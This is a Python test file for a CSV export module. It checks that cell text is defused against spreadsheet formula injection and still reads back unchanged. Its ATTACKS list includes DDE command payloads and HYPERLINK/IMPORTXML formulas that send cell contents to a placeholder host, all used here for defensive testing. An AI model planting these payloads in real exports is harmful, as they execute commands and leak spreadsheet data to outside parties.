"""Cells of a CSV file: no spreadsheet runs one, and each reads back as it was."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lifecycle.exports import harmless, restored
from lifecycle.exports.cells import text_cell

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://umbrella.example/?x="&A1,"Error: click")',
    '=IMPORTXML(CONCAT("https://umbrella.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1,1)",
    "Acme;=1+1",
    "Acme;=cmd|' /C calc'!A0;",
    'Acme";=1+1',
    "Acme\t=1+1",
    "Acme\n=1+1",
    "Acme\r\n=1+1",
    "'=1+1",
    "''=1+1",
]  # fmt: skip
ORDINARY = [
    "Acme Corp",
    "C++",
    "AT&T",
    "price - too high",
    "a; b",
    "first\nsecond",
    "O'Neill",
    "'t Hoekje",
    "",
    "5 - 3 = 2",
]
TRICKY = st.text(st.sampled_from("=+-@＝'\t\r\n;, ab\""))


def begins_a_formula(cell):
    return re.match(r"[\t\r\n ]*[=+\-@＝＋－＠]", cell) is not None and not cell.startswith(" ")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_an_attack_begins_a_formula_whatever_parts_the_cells(attack, separator):
    line = f"Umbrella,{text_cell(attack)},12\r\n"

    # A spreadsheet that parts cells elsewhere meets quotation marks inside a cell, where they mean nothing.
    quoting = csv.QUOTE_MINIMAL if separator == "," else csv.QUOTE_NONE
    cells = [
        cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator, quoting=quoting) for cell in row
    ]

    assert [cell for cell in cells if begins_a_formula(cell)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_made_harmless_reads_back_as_it_was(attack):
    assert harmless(attack) != attack
    assert restored(harmless(attack)) == attack


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_stays_as_it_is(text):
    assert harmless(text) == text
    assert restored(text) == text


@given(st.one_of(st.text(), TRICKY))
@example("';=")
@example("\t\n=")
def test_every_text_survives_the_file(text):
    [[cell, last]] = csv.reader(io.StringIO(f"{text_cell(text)},x\r\n", newline=""), strict=True)

    assert restored(cell) == text
    assert last == "x"


@given(st.one_of(st.text(), TRICKY))
def test_no_text_begins_a_formula(text):
    assert not re.search(r"(?:^|[;\t\r\n])[=+\-@＝＋－＠]", harmless(text))
    assert not harmless(text).startswith(("\t", "\r", "\n"))


@given(TRICKY, TRICKY)
def test_two_texts_never_become_one_cell(one, other):
    assert (harmless(one) == harmless(other)) is (one == other)
